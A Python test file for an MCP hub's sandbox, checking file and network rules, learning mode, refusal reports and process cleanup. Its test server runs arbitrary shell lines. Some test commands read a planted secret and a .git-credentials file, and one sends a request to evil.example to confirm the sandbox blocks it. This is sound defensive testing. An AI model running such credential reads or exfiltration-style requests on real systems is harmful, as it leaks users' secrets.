"""Servers in a sandbox behind a real hub: calls, errors with the line to add, and nothing that stays behind."""

import json
import os
import re
import signal
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import anyio
import anyio.to_thread
import msgspec
import pytest
import yaml

from mcp_hub.clock import SystemClock
from mcp_hub.errors import StartFailed
from mcp_hub.sandbox.rules import Rule
from mcp_hub.upstreams.peer.era_cache import EraCache
from mcp_hub.upstreams.peer.server_eras import ServerEras
from mcp_hub.upstreams.process.child import Child
from mcp_hub.upstreams.process.stdio import StdioConnection, StdioSpec
from mcp_hub.upstreams.process.watchdog import Watchdog
from tests.e2e.terminal import terminal
from tests.fork_server import forked_command
from tests.interaction.fronts import http_hub, stdio_session
from tests.unit.cli.command import SECONDS, command_env, hub
from tests.unit.sandbox.confined import needs_sandbox, sandbox_of
from tests.upstreams.child import until
from tests.upstreams.launch import argv, events, servers_yaml

pytestmark = [needs_sandbox(), pytest.mark.processes]
SERVER = """
import json, os, subprocess, sys
open(os.environ.get("NEEDED", os.devnull)).close()
for line in sys.stdin:
    message = json.loads(line)
    if "id" not in message:
        continue
    answer = {"error": {"code": -32601, "message": "unknown"}}
    if message["method"] == "initialize":
        info = {"name": "s", "version": "1"}
        answer = {"result": {"protocolVersion": "2025-06-18", "capabilities": {"tools": {}}, "serverInfo": info}}
    if message["method"] == "tools/list":
        answer = {"result": {"tools": [{"name": "sh", "inputSchema": {"type": "object"}}]}}
    if message["method"] == "tools/call":
        line = message["params"]["arguments"]["line"]
        done = subprocess.run(line, shell=True, capture_output=True, text=True)
        answer = {"result": {"content": [{"type": "text", "text": done.stdout + done.stderr}]}}
    print(json.dumps({"jsonrpc": "2.0", "id": message["id"], **answer}), flush=True)
"""


def configure(folder: Path, **server: Any) -> None:
    """A configuration beside a server and a folder with data."""
    (folder / "config").mkdir()
    (folder / "data").mkdir()
    (folder / "server.py").write_text(SERVER)
    (folder / "canary").write_text("secret")
    args = [str(folder / "server.py"), str(folder / "data")]
    entry = {"command": sys.executable, "args": args, "sandbox": "on", **server}
    (folder / "servers.yaml").write_text(json.dumps({"servers": {"s": entry}}))


def test_a_call_reaches_what_the_rule_opens_alone(tmp_path: Path) -> None:
    configure(tmp_path)
    line = f"cd {tmp_path}; echo written > data/file; cat canary servers.yaml; echo x > ~/own; cat ~/own"
    done = hub(tmp_path, "call", "s_sh", "--arg", f"line={line}")
    assert done.returncode == 0, done.stderr
    assert (tmp_path / "data/file").read_text() == "written\n"
    assert done.stdout.count("Permission denied") == 2 and "secret" not in done.stdout
    assert "x\n" in done.stdout
    (own,) = (tmp_path / "state/sandboxes").glob("*/*/home/own")
    assert own.read_text() == "x\n"


def test_a_start_that_the_sandbox_stops_names_the_line_to_add(tmp_path: Path) -> None:
    configure(tmp_path, env={"NEEDED": str(tmp_path / "canary")})
    done = hub(tmp_path, "list", "--json")
    (status,) = json.loads(done.stdout)["servers"]
    assert status["code"] == "sandbox_refused"
    assert f'read: ["{tmp_path}/canary"]' in status["reason"]


def test_check_finds_a_rule_that_opens_too_much(tmp_path: Path) -> None:
    configure(tmp_path, sandbox={"read": [str(tmp_path / "gone")]}, env={"HOME": "/"})
    servers = json.loads((tmp_path / "servers.yaml").read_text())
    proxies = dict.fromkeys(("HTTPS_PROXY", "https_proxy"), "http://proxy.example:3128")
    servers["servers"]["proxy"] = {"command": "ls", "env": proxies, "sandbox": {"net": ["a.example"]}}
    servers["servers"]["broad"] = {"command": "ls", "args": ["/"], "sandbox": "on"}
    (tmp_path / "servers.yaml").write_text(json.dumps(servers))
    done = hub(tmp_path, "check", "--no-start")
    texts = (
        f"read: {tmp_path}/gone does not exist, and is not made [sandbox_path]",
        "env: the sandbox sets its own value: HOME [sandbox_variable]",
        "env: the sandbox sets its own value: HTTPS_PROXY, https_proxy [sandbox_variable]",
        "args: the argument / cannot be opened: it is the whole system. Name folders with write. [sandbox_rule]",
    )
    assert (done.returncode, [text for text in texts if text not in done.stderr]) == (0, [])


def test_a_hub_without_the_key_loads_nothing_of_it(tmp_path: Path) -> None:
    configure(tmp_path, sandbox="off")
    code = """
import sys, pathlib, os
from mcp_hub.app.build import build
from mcp_hub.config.load.load import load
import anyio
async def main():
    build(load(pathlib.Path("servers.yaml"), os.environ), os.environ)
anyio.run(main)
print([name for name in sys.modules if name.startswith("mcp_hub.sandbox")])
"""
    done = subprocess.run(
        [sys.executable, "-c", code],
        cwd=tmp_path,
        env=command_env(tmp_path),
        capture_output=True,
        text=True,
        timeout=240,
    )
    assert done.stdout == "[]\n", done.stderr


class NotingWatchdog(Watchdog):
    """Notes how processes are spawned."""

    spawned: tuple[tuple[Any, ...], ...] = ()

    def spawn(self, *args: Any, **options: Any) -> Child:
        """As `Watchdog.spawn`."""
        self.spawned += ((*args, *options.items()),)
        return super().spawn(*args, **options)


@pytest.mark.anyio
async def test_a_start_without_the_key_is_that_of_the_command_alone(tmp_path: Path) -> None:
    """Command, variables and folder are spawned as they are; the process is under nothing that this one is not."""
    script = "grep -E '^(NoNewPrivs|Seccomp|CapBnd)' /proc/self/status; ulimit -c; ls /proc/self/fd; env; pwd"
    env = {"PATH": os.environ["PATH"], "HOME": "/nonexistent"}
    spec = StdioSpec(("/bin/sh", "-c", f"({script}) >&2"), env, str(tmp_path))
    lines = list[bytes]()
    spec = msgspec.structs.replace(spec, output=lines.extend)
    with anyio.fail_after(240):
        async with NotingWatchdog(SystemClock()) as watchdog, anyio.create_task_group() as tasks:
            connection = StdioConnection("s", lambda: spec, ServerEras(EraCache(None), "key"), watchdog)
            with pytest.raises(StartFailed):
                await connection.open(tasks)
            await connection.close()
            tasks.cancel_scope.cancel()
    assert watchdog.spawned == ((spec.argv, spec.env, spec.cwd),)
    outside = await anyio.run_process(["/bin/sh", "-c", script], env=env, cwd=tmp_path)
    marks = ("MCP_HUB_", "_=")
    shown = [line.decode() for line in lines if line and not line.decode().startswith(marks)]
    assert shown == [line for line in outside.stdout.decode().splitlines() if not line.startswith(marks)]


def test_the_command_tests_paths_and_hosts_without_a_start(tmp_path: Path) -> None:
    configure(tmp_path, sandbox={"net": ["api.example"]})
    shown = hub(tmp_path, "sandbox", "s").stdout
    assert f"write  {tmp_path}/data\n" in shown and "net    api.example port 443 or 80\n" in shown
    rows = {
        f"{tmp_path}/data/file": (0, "write: allowed"),
        f"{tmp_path}/server.py": (0, "write: refused"),
        f"{tmp_path}/canary": (1, f'set read: ["{tmp_path}/canary"] in its sandbox'),
        "API.example": (0, "port 443: allowed"),
        "other.example:8443": (1, 'set net: ["api.example", "other.example:8443"] in its sandbox'),
    }
    for target, (code, text) in rows.items():
        done = hub(tmp_path, "sandbox", "s", "test", target)
        assert (done.returncode, text in done.stdout) == (code, True), done.stdout
    assert not (tmp_path / "state/sandboxes").exists()
    assert hub(tmp_path, "sandbox", "s", "test").returncode == 2


@contextmanager
def learning(folder: Path, *options: str) -> Iterator[tuple["subprocess.Popen[str]", list[str]]]:
    """The command while the server learns, and the options of `call` that reach it."""
    command = [*forked_command(), "sandbox", "s", "--learn", *options]
    with subprocess.Popen(
        command, env=command_env(folder), cwd=folder, text=True, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    ) as process:  # fmt: skip
        try:
            assert process.stderr is not None
            lines = iter(process.stderr.readline, "")
            line = next(text for text in lines if text.startswith("  client:"))
            url, token = re.findall(r"http\S+(?=,)|(?<=Bearer )\S+", line)
            yield process, ["--url", url, "--token", token]
        finally:
            process.kill()


def test_learning_writes_the_rule_that_a_server_needs_and_never_a_key(tmp_path: Path) -> None:
    (tmp_path / ".git-credentials").write_text("key")  # secret wherever it is
    configure(tmp_path, sandbox="off")
    for name in ("notes", "work"):
        (tmp_path / name).mkdir()
    (tmp_path / "notes/in").write_text("input")
    work = f"cd {tmp_path}; cat notes/in; echo x > work/out; cat .git-credentials"
    with learning(tmp_path, "--for", "60s", "--yes") as (process, reach):
        before = json.loads((tmp_path / "servers.yaml").read_text())
        done = hub(tmp_path, "call", *reach, "s_sh", "--arg", f"line={work}")
        assert "input" in done.stdout and "Permission denied" in done.stdout, done.stderr
        assert hub(tmp_path, "call", "--url", reach[1], "s_sh", "--arg", "line=true").returncode == 2  # no token
        assert json.loads((tmp_path / "servers.yaml").read_text()) == before
        process.send_signal(signal.SIGINT)
        shown, _ = process.communicate(timeout=SECONDS)
    assert process.returncode == 0
    assert f"{tmp_path}/.git-credentials, by " in shown and "+" in shown
    rule = yaml.safe_load((tmp_path / "servers.yaml").read_text())["servers"]["s"]["sandbox"]
    assert rule == {"read": [f"{tmp_path}/notes/in"], "write": [f"{tmp_path}/data", f"{tmp_path}/work"]}
    done = hub(tmp_path, "call", "s_sh", "--arg", f"line={work}; cat {tmp_path}/canary")
    assert "input" in done.stdout and done.stdout.count("Permission denied") == 2


def test_learning_run_that_is_killed_leaves_no_process_and_no_rule(tmp_path: Path) -> None:
    configure(tmp_path)
    before = (tmp_path / "servers.yaml").read_bytes()
    with learning(tmp_path) as (process, reach):
        done = hub(tmp_path, "call", *reach, "s_sh", "--arg", f"line=echo $PPID; cat {tmp_path}/canary")
        pid, text = done.stdout.split()
        assert text == "secret"
        process.kill()
        process.wait(SECONDS)
        anyio.run(until, lambda: not os.path.exists(f"/proc/{pid}"))
    assert (tmp_path / "servers.yaml").read_bytes() == before
    assert "Permission denied" in hub(tmp_path, "call", "s_sh", "--arg", f"line=cat {tmp_path}/canary").stdout


@pytest.mark.proof
def test_learning_on_a_terminal_asks_before_the_start_and_before_it_writes(tmp_path: Path) -> None:
    configure(tmp_path, sandbox="off")
    before = (tmp_path / "servers.yaml").read_text()
    for answer, code, text in (("n", 1, before), ("y", 0, before.replace('"off"', '"on"'))):
        with terminal(tmp_path, "sandbox", "s", "--learn") as shown:
            shown.answer("[Y/n]", "")
            shown.answer("client:", "")
            shown.answer("[y/N]", answer)
            assert (shown.end(), (tmp_path / "servers.yaml").read_text()) == (code, text)


def test_learning_without_a_terminal_writes_only_with_yes(tmp_path: Path) -> None:
    configure(tmp_path, sandbox="off")
    before = (tmp_path / "servers.yaml").read_bytes()
    done = hub(tmp_path, "sandbox", "s", "--learn", "--for", "10ms")
    assert (done.returncode, '"sandbox": "on"' in done.stdout) == (1, True), done.stdout + done.stderr
    assert "[no_terminal]" in done.stderr and (tmp_path / "servers.yaml").read_bytes() == before
    configuration = json.loads(before)
    configuration["servers"]["s"] |= {"command": "false", "restart": {"intensity": 0, "period": "1s"}}
    (tmp_path / "servers.yaml").write_text(json.dumps(configuration))
    done = hub(tmp_path, "sandbox", "s", "--learn", "--yes")
    assert (done.returncode, "there is no proposal" in done.stderr) == (3, True), done.stdout + done.stderr
    assert json.loads((tmp_path / "servers.yaml").read_text()) == configuration
    done = hub(tmp_path, "sandbox", "s", "--learn", "--for", "2h")
    assert (done.returncode, "at most an hour" in done.stderr) == (2, True)


@pytest.mark.anyio
async def test_refusals_are_in_the_answer_the_log_and_the_commands_of_a_running_hub(tmp_path: Path) -> None:
    configure(tmp_path, sandbox={"net": ["api.example.com"]})
    code = "import urllib.request as r; r.urlopen('http://evil.example:8443/?private')"
    line = f'{sys.executable} -I -S -c "{code}"'
    async with http_hub((tmp_path / "servers.yaml").read_text(), tmp_path):
        fix = 'set net: ["api.example.com", "evil.example:8443"]'
        commands = {
            ("call", "s_sh", "--arg", f"line={line}"): 'add "evil.example:8443" to net',
            ("sandbox", "s"): "refused in the running hub: 1 attempt, the latest at different targets:\n",
            ("status",): "  s: its sandbox refused 1 attempt. Run mcp-hub sandbox s",
            ("doctor", "s"): f"(the host is not in its rule); to allow it, {fix}",
            ("logs", "s"): "hub: sandbox_refused target=evil.example:8443 reason=the host is not in its rule total=1",
        }
        for command, text in commands.items():
            done = await anyio.to_thread.run_sync(hub, tmp_path, *command)
            assert (done.returncode, text in done.stdout + done.stderr) == (0, True), done.stdout + done.stderr
            assert command[0] == "call" or "private" not in done.stdout


@pytest.mark.anyio
@pytest.mark.parametrize("mode", ["on", "hosts"])
@pytest.mark.first(1)
async def test_hub_of_a_sandboxed_run_starts_its_servers_in_a_sandbox(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, mode: str
) -> None:
    """As `make sandboxed` runs the tests of idle stop, sessions, restart, reload and the end of hubs."""
    monkeypatch.setenv("SANDBOXED", mode)
    journal = tmp_path / "journal"
    async with stdio_session(servers_yaml({"a": argv(journal=journal)}), tmp_path):
        await until(lambda: events(journal, "start"))
        process = Path("/proc") / str(events(journal, "start")[0]["pid"])
        assert "\nSeccomp:\t2\n" in (process / "status").read_text()
        assert (b"HTTPS_PROXY=" in (process / "environ").read_bytes()) == (mode == "hosts")


INSTALLING = """#!/bin/sh
if [ ! -e ~/installed ]; then
    mkdir ~/installing || exit 3
    echo >> ~/installs
    sleep 0.3
    rmdir ~/installing
    touch ~/installed
fi
exec "$@"
"""
"""As npx before npm 11: two that install into one folder at once damage it."""


BROKEN_OFF = """#!/bin/sh
tree=~/.npm/_npx/1
if [ -d $tree ]; then
    cat $tree/package.json > /dev/null || exit 1
else
    mkdir -p $tree
    [ -e ~/again ] || { touch ~/again; exec sleep 1000; }
    touch $tree/package.json
fi
exec "$@"
"""
"""As npx, which takes a folder without `package.json` for one that was installed."""


def packaged(folder: Path, script: str) -> StdioSpec:
    """The start of a server by an `npx` that is this script, as of one hub of several with this private home."""
    (npx := folder / "npx").write_text(script)
    npx.chmod(0o755)
    (folder / "server.py").write_text(SERVER)
    sandbox = sandbox_of(folder, Rule(read=(sys.prefix, sys.base_prefix, str(folder / "server.py"))))
    argv = (str(npx), sys.executable, str(folder / "server.py"))
    return StdioSpec(argv, {"PATH": "/usr/bin:/bin"}, "/", sandbox=sandbox)


def connection(spec: StdioSpec, watchdog: Watchdog) -> StdioConnection:
    return StdioConnection("s", lambda: spec, ServerEras(EraCache(None), "key"), watchdog)


@pytest.mark.anyio
async def test_first_starts_of_a_package_in_one_private_home_run_one_after_another(tmp_path: Path) -> None:
    with anyio.fail_after(240):
        async with Watchdog(SystemClock()) as watchdog, anyio.create_task_group() as tasks:
            connections = [connection(packaged(tmp_path, INSTALLING), watchdog) for _ in range(3)]
            async with anyio.create_task_group() as starts:
                for each in connections:
                    starts.start_soon(each.open, tasks)
            assert (tmp_path / "state/private/home/installs").read_text() == "\n"
            for each in connections:
                await each.close()
            tasks.cancel_scope.cancel()


@pytest.mark.anyio
async def test_first_start_that_was_broken_off_in_its_download_does_not_spoil_the_next_ones(tmp_path: Path) -> None:
    spec, home = packaged(tmp_path, BROKEN_OFF), tmp_path / "state/private/home"
    with anyio.fail_after(240):
        async with Watchdog(SystemClock()) as watchdog, anyio.create_task_group() as tasks:
            async with anyio.create_task_group() as starts:
                starts.start_soon((broken := connection(spec, watchdog)).open, starts)
                await until((home / "again").exists)
                starts.cancel_scope.cancel()
            await broken.close()
            await (second := connection(spec, watchdog)).open(tasks)
            assert (home / ".npm/_npx/1/package.json").exists()
            await second.close()
            tasks.cancel_scope.cancel()


@pytest.mark.anyio
async def test_descendants_of_a_sandboxed_server_end_with_it(tmp_path: Path) -> None:
    with anyio.fail_after(240):
        async with Watchdog(SystemClock()) as watchdog, anyio.create_task_group() as tasks:
            tasks.start_soon(watchdog.run)
            script = "setsid sleep 1000 & echo $! $$; cat > /dev/null"
            start = sandbox_of(tmp_path).prepare(
                ["/bin/sh", "-c", script], {"PATH": "/usr/bin:/bin"}, "/", is_spare=False
            )
            assert start is not None
            with start.launch as launch:
                child = watchdog.spawn(launch.argv, launch.env, "/", launch.descriptors)
            await start.begin(tasks)
            await anyio.wait_readable(child.stdout)
            orphan, leader = map(int, (child.stdout.readline()).split())
            assert leader == child.pid
            os.kill(orphan, 0)
            child.kill()
            await child.wait()
            await child.close(0, 0)
            with pytest.raises(ProcessLookupError):
                os.kill(orphan, signal.SIGKILL)
            tasks.cancel_scope.cancel()
